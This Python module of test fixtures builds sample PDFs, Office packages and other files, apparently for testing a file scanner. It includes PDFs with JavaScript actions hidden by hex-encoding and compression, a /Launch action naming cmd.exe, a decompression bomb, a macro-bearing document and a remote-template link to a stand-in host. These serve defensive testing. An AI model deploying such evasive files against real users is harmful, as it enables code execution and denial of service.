"""Small real files of every kind, wholesome and not."""

import io
import random
import zlib
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"

HTML = b"<!DOCTYPE html><html><body><script>document.cookie</script></body></html>"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(24) + b"\xff\xd9"
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def pdf(text: str = "Quyết định", *, extra: bytes = b"") -> bytes:
    """A PDF of one empty page; ``text`` makes its bytes its own."""
    parts = [
        b"%PDF-1.7\n%" + text.encode() + b"\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n",
        extra,
        b"trailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n",
    ]
    return b"".join(parts)


def big_pdf(size: int, text: str) -> bytes:
    """A PDF with a scan so heavy that the whole has ``size`` bytes."""
    head = b"4 0 obj\n<< /Length %d >>\nstream\n" % size
    frame = len(pdf(text, extra=head + b"\nendstream\nendobj\n"))
    scan = random.Random(text).randbytes(size - frame)
    return pdf(text, extra=head + scan + b"\nendstream\nendobj\n")


def scripted_pdf() -> bytes:
    return pdf(extra=b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n")


def disguised_pdf() -> bytes:
    """The same action with its name written in hexadecimal."""
    return pdf(extra=b"4 0 obj\n<< /S /Java#53cript /JS (app.alert(1)) >>\nendobj\n")


def packed_pdf() -> bytes:
    """The same action inside a compressed object stream."""
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>")
    head = b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        packed
    )
    return pdf(extra=head + packed + b"\nendstream\nendobj\n")


def encrypted_pdf() -> bytes:
    return pdf(extra=b"trailer\n<< /Encrypt 9 0 R >>\n")


def launching_pdf() -> bytes:
    return pdf(extra=b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n")


def bomb_pdf() -> bytes:
    """An object stream that unpacks without end, a thousand times."""
    packed = zlib.compress(bytes(2_000_000), 9)
    head = b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return pdf(extra=(head + packed + b"\nendstream\nendobj\n") * 60)


def office(
    part: str = "word/document.xml",
    main: str = DOCX_MAIN,
    more: dict[str, bytes] | None = None,
    *,
    packed: bool = False,
) -> bytes:
    """An Office package with one main part, and whatever else it shall carry."""
    held = io.BytesIO()
    with ZipFile(held, "w", ZIP_DEFLATED if packed else ZIP_STORED) as package:
        package.writestr(
            "[Content_Types].xml",
            f'<Types><Override PartName="/{part}" ContentType="{main}"/></Types>',
        )
        package.writestr("_rels/.rels", "<Relationships/>")
        package.writestr(part, "<document/>")
        for name, content in (more or {}).items():
            package.writestr(name, content)
    return held.getvalue()


def workbook() -> bytes:
    return office("xl/workbook.xml", XLSX_MAIN)


def with_macro() -> bytes:
    return office(more={"word/vbaProject.bin": b"\xcc\x61"})


def macro_document() -> bytes:
    return office(main=MACRO_MAIN)


def remote_template() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://198.51.100.1/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    return office(more={"word/_rels/settings.xml.rels": relation})
